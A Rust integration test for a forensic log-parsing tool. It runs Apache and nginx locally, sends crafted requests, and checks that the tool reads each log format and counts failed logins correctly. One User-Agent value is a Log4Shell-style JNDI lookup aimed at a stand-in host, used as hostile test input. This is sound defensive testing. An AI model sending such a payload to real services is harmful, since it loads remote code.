//! Access and error logs that Apache and nginx write on loopback, in forms of their settings, read by `kanshiki examine`.

use kanshiki_testkit::{Need, Running, kanshiki_path, need, run, tempdir, tool, tool_path, wait_until, write_file};
use serde_json::Value;
use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::process::Command;

/// Requests of a run: what each sends, with the number of the request in its path.
const REQUESTS: u32 = 60;

fn request(number: u32) -> Vec<u8> {
    let agent: &[u8] = match number % 5 {
        0 => b"say \"hi\" \\ there",
        1 => b"",
        2 => b"Mozilla/5.0 (X11; Linux) [x] \xff\xc3\xa9",
        3 => b"${jndi:ldap://192.0.2.7/a}",
        _ => b"-",
    };
    // anna:wrong, `a b [x`:y, and nobody.
    let account = match number % 3 {
        0 => "Authorization: Basic YW5uYTp3cm9uZw==\r\n",
        1 => "Authorization: Basic YSBiIFt4Onk=\r\n",
        _ => "",
    };
    let path = format!("/secret/{number}?q=\"a\"&b=%20");
    let head = format!(
        "GET {path} HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\nReferer: http://a.example/{number}\r\n"
    );
    [head.as_bytes(), account.as_bytes(), b"User-Agent: ", agent, b"\r\n\r\n"].concat()
}

fn send(port: u16, bytes: &[u8]) {
    let mut stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream.write_all(bytes).unwrap();
    let _ = stream.read_to_end(&mut Vec::new());
}

/// A port that was free a moment ago.
fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port()
}

fn lines(path: &Path) -> usize {
    std::fs::read(path).map_or(0, |bytes| bytes.iter().filter(|byte| **byte == b'\n').count())
}

/// Runs a server on the settings, with `PORT`, `PLACE` and `LOGS` replaced, until all logs have a line for each request.
fn serve(place: &Path, settings: &str, start: &dyn Fn(&Path) -> Command, logs: &[&str]) {
    let port = free_port();
    let text = settings.replace("PORT", &port.to_string()).replace("PLACE", place.to_str().unwrap());
    let logs_place = place.join("logs");
    std::fs::create_dir_all(&logs_place).unwrap();
    std::fs::create_dir_all(place.join("www")).unwrap();
    let file = place.join("server.conf");
    write_file(&file, text.replace("LOGS", logs_place.to_str().unwrap()));
    // anna's password is `right`, of htpasswd -s.
    write_file(&place.join("accounts"), "anna:{SHA}Y2fEjdGT1W6nsLqtJbGUVeUp9e4=\n");
    for path in [place, &place.join("www"), &logs_place, &place.join("accounts")] {
        let _ = run(Command::new("chmod").arg("755").arg(path)).exits(0);
    }
    let server = Running::start(&mut start(&file));
    wait_until("the server answers", || TcpStream::connect(("127.0.0.1", port)).is_ok());
    for number in 0..REQUESTS {
        send(port, &request(number));
    }
    send(port, b"\x16\x03\x01\x02\x00\"\\\r\n\r\n");
    wait_until("all lines are written", || logs.iter().all(|log| lines(&logs_place.join(log)) > REQUESTS as usize));
    server.signal("-TERM");
    let _ = server.wait();
}

/// Examines an image with these settings and the logs, and asks.
fn ask(place: &Path, settings_path: &str, settings: &str, question: &str) -> Vec<Value> {
    let root = place.join("root");
    let settings_file = root.join(settings_path);
    std::fs::create_dir_all(settings_file.parent().unwrap()).unwrap();
    write_file(&settings_file, settings.replace("LOGS", "/srv/own"));
    let logs = root.join("srv/own");
    std::fs::create_dir_all(&logs).unwrap();
    for file in std::fs::read_dir(place.join("logs")).unwrap() {
        let file = file.unwrap();
        std::fs::copy(file.path(), logs.join(file.file_name())).unwrap();
    }
    let image = place.join("disk.img");
    let _ = run(tool("mkfs.ext4").args(["-q", "-F", "-d"]).arg(&root).arg(&image).arg("32M")).exits(0);
    let case = place.join("case");
    let ran = run(Command::new(kanshiki_path()).arg("examine").arg(&image).arg("--case").arg(&case));
    assert!(matches!(ran.code, 0 | 3), "{ran:?}");
    let asked =
        run(Command::new(kanshiki_path()).args(["query", "--jsonl", question]).arg("--case").arg(&case)).exits(0);
    let rows = asked.stdout.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
    rows.filter(|row| row["type"] == "row").collect()
}

/// Whether each log has an event for each request with its path, its account and its referrer.
fn check(rows: &[Value], logs: &[&str]) {
    for log in logs {
        let path = format!("/srv/own/{log}");
        let of: Vec<&Value> = rows.iter().filter(|row| row["path"] == path).collect();
        let kinds: Vec<&Value> = of.iter().map(|row| &row["kind"]).filter(|kind| **kind != "web.request").collect();
        assert!(kinds.is_empty(), "{log}: {kinds:?}");
        for number in 0..REQUESTS {
            let is_it = |row: &&&Value| {
                let fields: Value = serde_json::from_str(row["fields"].as_str().unwrap_or("{}")).unwrap_or_default();
                let text = |name: &str| fields[name].as_str().unwrap_or("").to_owned();
                let uri = text("path") + &text("query");
                let account = [Some("anna"), Some("a b [x"), None][number as usize % 3];
                uri.starts_with(&format!("/secret/{number}?q="))
                    && uri.ends_with("&b=%20")
                    && fields["status"] == 401
                    && row["address"] == "127.0.0.1"
                    && fields["referrer"] == format!("http://a.example/{number}")
                    && row["user"].as_str() == account
            };
            assert_eq!(of.iter().filter(is_it).count(), 1, "{log}: request {number} in {of:#?}");
        }
        // One more for what was no request; Apache writes a second line where the wait for one ran out.
        assert!(of.len() > REQUESTS as usize && of.len() <= REQUESTS as usize + 3, "{log}: {}", of.len());
    }
}

const QUESTION: &str =
    "SELECT utc, kind, user, address, message, fields, path FROM timeline WHERE kind GLOB 'web.*' ORDER BY id";

#[test]
fn what_apache_writes_is_read_in_the_forms_of_its_settings() {
    let modules = Path::new("/usr/lib/apache2/modules");
    if !need(&[
        Need::Tool("apache2"),
        Need::Tool("mkfs.ext4"),
        Need::File("/usr/lib/apache2/modules/mod_auth_basic.so"),
    ]) {
        return;
    }
    let names = ["mpm_event", "authn_core", "authn_file", "authz_core", "authz_user", "auth_basic"];
    let load: String =
        names.iter().map(|name| format!("LoadModule {name}_module {}/mod_{name}.so\n", modules.display())).collect();
    let settings = format!(
        "{load}ServerName localhost\nServerRoot PLACE\nPidFile PLACE/pid\nListen 127.0.0.1:PORT\nDocumentRoot PLACE/www\n\
        ErrorLog LOGS/error.log\n\
        LogFormat \"%h %l %u %t \\\"%r\\\" %>s %O \\\"%{{Referer}}i\\\" \\\"%{{User-Agent}}i\\\"\" combined\n\
        LogFormat \"%v:%p %h %l %u %t \\\"%r\\\" %>s %O \\\"%{{Referer}}i\\\" \\\"%{{User-Agent}}i\\\"\" vhost_combined\n\
        CustomLog LOGS/access.log combined\nCustomLog LOGS/vhost.log vhost_combined\n\
        CustomLog LOGS/odd \"%{{%Y-%m-%d %H:%M:%S}}t.%{{usec_frac}}t %{{%z}}t|%a|%u|%>s|%m|%U|%q|%H|%D|%I|%O|\\\"%{{Referer}}i\\\"|%{{ms}}T\"\n\
        CustomLog LOGS/json \"{{ \\\"at\\\": \\\"%{{%Y-%m-%dT%T%z}}t\\\", \\\"user\\\": \\\"%u\\\", \\\"from\\\": \\\"%a\\\", \\\"line\\\": \\\"%r\\\", \\\"code\\\": %>s, \\\"ref\\\": \\\"%{{Referer}}i\\\", \\\"ua\\\": \\\"%{{User-agent}}i\\\" }}\"\n\
        CustomLog LOGS/parts \"%t %a %u \\\"%m %U%q %H\\\" %>s %b \\\"%{{Referer}}i\\\"\"\n\
        CustomLog LOGS/first \"%{{%Y-%m-%d %H:%M:%S}}t %a \\\"%u\\\" %m %U%q %>s \\\"%{{Referer}}i\\\"\"\n\
        <Location />\nAuthType Basic\nAuthName x\nAuthUserFile PLACE/accounts\nRequire valid-user\n</Location>\n"
    );
    let place = tempdir();
    let start = |file: &Path| {
        let mut command = tool("apache2");
        command.args(["-X", "-f"]).arg(file);
        command
    };
    let logs = ["access.log", "vhost.log", "odd", "json", "parts", "first"];
    serve(place.path(), &settings, &start, &logs);
    let rows = ask(place.path(), "etc/apache2/apache2.conf", &settings, QUESTION);
    check(&rows, &logs);
    let failures = rows.iter().filter(|row| row["kind"] == "web.login-failed").count();
    // Of the requests with an account, two thirds: anna with the wrong password, and one who does not exist.
    assert_eq!(failures, REQUESTS as usize * 2 / 3);
    assert!(rows.iter().any(|row| row["user"] == "a b [x" && row["kind"] == "web.login-failed"));
}

#[test]
fn what_nginx_writes_is_read_in_the_forms_of_its_settings() {
    if !need(&[Need::Tool("nginx"), Need::Tool("mkfs.ext4")]) {
        return;
    }
    let settings = r#"daemon off; master_process off; pid PLACE/pid; error_log LOGS/error.log info; events { }
http { client_body_temp_path PLACE/a; proxy_temp_path PLACE/b; fastcgi_temp_path PLACE/c; uwsgi_temp_path PLACE/d; scgi_temp_path PLACE/e;
  log_format odd '$msec|$remote_addr|$remote_user|$status|$request_uri|$request_time|$body_bytes_sent|$http_referer|${server_port}';
  log_format own escape=json '{ "t": "$time_iso8601", "who": "$remote_addr", "account": "$remote_user", "line": "$request",'
    '"s": $status, "ref": "$http_referer", "ua": "$http_user_agent", "took": $request_time }';
  log_format vhost '$host:$server_port $remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"';
  access_log LOGS/access.log; access_log LOGS/odd odd; access_log LOGS/own.json own; access_log LOGS/vhost.log vhost buffer=1k flush=1s;
  server { listen 127.0.0.1:PORT; root PLACE/www; auth_basic "x"; auth_basic_user_file PLACE/accounts; }
}
"#;
    let place = tempdir();
    let start = |file: &Path| {
        let mut command = Command::new(tool_path("nginx").unwrap());
        command.arg("-c").arg(file);
        command
    };
    let logs = ["access.log", "odd", "own.json", "vhost.log"];
    serve(place.path(), settings, &start, &logs);
    let rows = ask(place.path(), "etc/nginx/nginx.conf", settings, QUESTION);
    check(&rows, &logs);
    let failures = rows.iter().filter(|row| row["kind"] == "web.login-failed").count();
    assert_eq!(failures, REQUESTS as usize * 2 / 3);
}
